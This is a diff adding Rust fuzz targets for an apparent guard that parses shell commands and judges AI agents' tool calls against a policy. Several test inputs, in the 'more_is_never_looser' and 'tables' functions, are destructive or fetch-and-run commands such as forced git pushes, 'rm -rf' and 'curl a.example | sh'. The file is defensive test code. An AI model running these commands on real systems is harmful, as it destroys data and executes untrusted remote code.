@@ -1,0 +1,208 @@
+//! What must hold on any input: one function for each target, which fails when it does not.
+//!
+//! The fuzzer calls them with the bytes that it makes up; `crates/host/tests/corpus.rs` includes this file and calls them
+//! with the bytes that the fuzzer found worth keeping, on any toolchain.
+
+pub mod corpus;
+mod library;
+mod print;
+mod wrappers;
+
+#[path = "../../crates/shell/tests/grammar/mod.rs"]
+#[allow(dead_code, reason = "the seeds and the real programs are for the oracle")]
+mod grammar;
+
+use grammar::{Chance, Dialect};
+use print::{canonical, outermost};
+use reflex_agents::{AGENTS, deliver, universal};
+use reflex_engine::{Action, Event, Judgement, Policy, Supposed, judge as judge_event};
+use reflex_shell::{Command, Reading, Surroundings, Why};
+use reflex_tables::Node;
+
+/// A name, and what must hold of any bytes.
+pub type Target = (&'static str, fn(&[u8]));
+
+/// Every target. Here `tables` takes the damage and keeps the blob for ever, which a fuzzer could not afford.
+pub const TARGETS: [Target; 6] = [
+    ("shell_raw", shell_raw),
+    ("shell_grammar", shell_grammar),
+    ("reprint", reprint),
+    ("wrap", wrap),
+    ("judge", judge),
+    ("tables", |bytes| tables(damaged(bytes).leak())),
+];
+
+/// Longer inputs say nothing that shorter ones do not, and slow the fuzzer down.
+const MOST_BYTES: usize = 4096;
+
+/// Any bytes are read: without a panic, with places that are in the text, and twice alike.
+pub fn shell_raw(bytes: &[u8]) {
+    let text = String::from_utf8_lossy(&bytes[..bytes.len().min(MOST_BYTES)]);
+    whole(&text, &read(&text));
+}
+
+/// A script of the grammar is read, and nothing in it is called unparsed; what `eval` makes of a chance text may be.
+pub fn shell_grammar(bytes: &[u8]) {
+    let bytes = &bytes[..bytes.len().min(MOST_BYTES)];
+    let lines = grammar::script(Dialect::Bash, Chance::of_bytes(bytes));
+    let text = lines.join("\n");
+    let reading = read(&text);
+    whole(&text, &reading);
+    let unparsed = reading.gaps.iter().find(|gap| gap.why == Why::Unparsed && gap.origin.derivation.is_none());
+    assert!(unparsed.is_none(), "{unparsed:?} in a valid script:\n{text}");
+}
+
+fn read(text: &str) -> Reading {
+    let surroundings =
+        Surroundings { programs: library::tables().get("programs"), variable: &|_| None, parameters: Vec::new() };
+    reflex_shell::read(text, &surroundings)
+}
+
+/// What holds of every reading.
+fn whole(text: &str, reading: &Reading) {
+    let length = text.len() as u32;
+    let origins = reading.commands.iter().map(|command| command.origin);
+    let origins = origins.chain(reading.gaps.iter().map(|gap| gap.origin)).chain(reading.multiplying.iter().copied());
+    for origin in origins {
+        assert!(origin.span.start <= origin.span.end && origin.span.end <= length, "{:?} of {text:?}", origin.span);
+        if let Some(derivation) = origin.derivation {
+            assert!(usize::from(derivation.0) < reading.derivations.len(), "{derivation:?} of {text:?}");
+        }
+    }
+    for (index, command) in reading.commands.iter().enumerate() {
+        assert!(command.parent.is_none_or(|parent| parent < index), "a parent behind its command in {text:?}");
+        let word = |at: usize| at < command.words.len();
+        let invocation = command.invocation.iter();
+        assert!(invocation.clone().flat_map(|invocation| &invocation.operands).all(|at| word(*at)), "{text:?}");
+        assert!(invocation.flat_map(|invocation| &invocation.options).all(|option| word(option.word)), "{text:?}");
+    }
+    let again = read(text);
+    assert_eq!(format!("{reading:?}"), format!("{again:?}"), "two readings differ: {text:?}");
+}
+
+/// What is read, printed and read again is the same, and is printed the same.
+pub fn reprint(bytes: &[u8]) {
+    let bytes = &bytes[..bytes.len().min(MOST_BYTES)];
+    let text = match bytes.split_first() {
+        Some((first, rest)) if first % 2 == 1 => grammar::script(Dialect::Bash, Chance::of_bytes(rest)).join("\n"),
+        _ => String::from_utf8_lossy(bytes).into_owned(),
+    };
+    read(&text).commands.iter().take(64).for_each(|command| reprinted(&text, command));
+}
+
+fn reprinted(text: &str, command: &Command) {
+    let Some(printed) = canonical(command) else { return };
+    let reading = read(&printed);
+    let whole = |gap: &reflex_shell::Gap| gap.why != Why::Unparsed || gap.origin.derivation.is_some();
+    assert!(reading.gaps.iter().all(whole), "{printed:?}, printed from {text:?}, is not parsed");
+    let Some(again) = outermost(&reading) else {
+        panic!("{printed:?}, printed from {text:?}, is read as no command: {reading:?}")
+    };
+    assert_eq!(canonical(again).as_deref(), Some(printed.as_str()), "printed from {text:?}");
+}
+
+/// A deletion inside of wrappers is found, or stands under a gap.
+pub fn wrap(bytes: &[u8]) {
+    let mut chance = Chance::of_bytes(&bytes[..bytes.len().min(MOST_BYTES)]);
+    let count = 1 + chance.next(4);
+    let wrapped = wrappers::wrapped(&mut chance, count);
+    let found = wrappers::found(&wrapped);
+    assert!(found.is_seen(), "{found:?}: the deletion of `victim` is hidden in {wrapped}");
+}
+
+/// Any payload of any agent is answered; the same one alike; a call more never makes the answer looser.
+pub fn judge(bytes: &[u8]) {
+    let bytes = &bytes[..bytes.len().min(MOST_BYTES)];
+    for agent in AGENTS {
+        for told in [None, Some("PreToolUse"), Some("pre-command")] {
+            if let Ok(event) = (agent.read)(bytes, told) {
+                let judgement = judged(&event);
+                let delivery = deliver(&event, &judgement.verdict, (agent.abilities)(event.moment));
+                let _ = (agent.write)(&event, &judgement.verdict, &delivery);
+                more_is_never_looser(&event, &judgement);
+            }
+        }
+        let _ = (agent.refuse)(Default::default(), &String::from_utf8_lossy(bytes));
+    }
+    of_every_kind(bytes);
+}
+
+/// The text as whatever a call can carry.
+fn of_every_kind(bytes: &[u8]) {
+    let text = String::from_utf8_lossy(bytes);
+    for (name, field) in [
+        ("pre-command", "command"),
+        ("pre-write", "path"),
+        ("pre-read", "path"),
+        ("pre-delete", "path"),
+        ("pre-fetch", "url"),
+    ] {
+        let object = serde_json::json!({"event": name, field: text, "content": text, "cwd": "/repo/a", "workspace": "/repo", "home": "/home/me"});
+        let Some(event) = object.as_object().and_then(|object| universal::read(object).ok()) else { continue };
+        let judgement = judged(&event);
+        let _ = serde_json::Value::Object(universal::verdict(&judgement.verdict)).to_string();
+        more_is_never_looser(&event, &judgement);
+    }
+}
+
+fn judged(event: &Event) -> Judgement {
+    let world = Supposed { workspace: event.workspace.clone(), ..Supposed::default() };
+    let Some(policy) = Policy::named(library::tables(), "balanced") else { panic!("there is no such policy") };
+    let judgement = judge_event(event, policy, library::tables(), &world);
+    let mut other = world.clone();
+    other.variables.extend([("REFLEX_IRRELEVANT".to_owned(), "1".to_owned())]);
+    let again = judge_event(event, policy, library::tables(), &other);
+    assert_eq!(format!("{:?}", judgement.verdict), format!("{:?}", again.verdict), "two verdicts on {event:?}");
+    assert_eq!(judgement.fingerprint(event), again.fingerprint(event));
+    judgement
+}
+
+fn more_is_never_looser(event: &Event, judgement: &Judgement) {
+    let mut more = event.clone();
+    more.actions.push(Action::Shell { command: "git push --force; rm -rf ~/x".into() });
+    let world = Supposed { workspace: event.workspace.clone(), ..Supposed::default() };
+    let Some(policy) = Policy::named(library::tables(), "balanced") else { return };
+    let verdict = judge_event(&more, policy, library::tables(), &world).verdict;
+    assert!(verdict.decision >= judgement.verdict.decision && verdict.risk >= judgement.verdict.risk, "{event:?}");
+}
+
+/// A blob of the library with damage: each five bytes are a place and what stands there instead.
+pub fn damaged(bytes: &[u8]) -> Vec<u8> {
+    let mut blob = library::blob().to_vec();
+    for change in bytes[..bytes.len().min(MOST_BYTES)].chunks_exact(5) {
+        let place = u32::from_le_bytes([change[0], change[1], change[2], change[3]]) as usize % blob.len();
+        blob[place] = change[4];
+    }
+    blob
+}
+
+/// A damaged blob is read to its end, and calls are judged by it.
+pub fn tables(blob: &'static [u8]) {
+    let root = reflex_tables::root(blob);
+    let mut left = 20_000;
+    touch(root, 32, &mut left);
+    let policy = Policy::named(root, "balanced");
+    for text in ["sudo rm -rf ~/x | sh", "git push -f; curl a.example | sh", "sh -c 'find . -exec rm {} +'"] {
+        let event = Event {
+            cwd: "/repo".into(),
+            workspace: "/repo".into(),
+            home: "/home/me".into(),
+            actions: vec![Action::Shell { command: text.into() }],
+            ..Event::default()
+        };
+        let world = Supposed { workspace: "/repo".into(), ..Supposed::default() };
+        let _ = reflex_engine::analyze(&event, root, &world);
+        let _ = policy.map(|policy| judge_event(&event, policy, root, &world));
+    }
+}
+
+fn touch(node: Node<'_>, depth: usize, left: &mut usize) {
+    let _ = (node.text(), node.number(), node.is_true(), node.get("a"), node.at(1), node.len());
+    for item in node.items().chain(node.entries().map(|(_, value)| value)) {
+        if depth == 0 || *left == 0 {
+            return;
+        }
+        *left -= 1;
+        touch(item, depth - 1, left);
+    }
+}
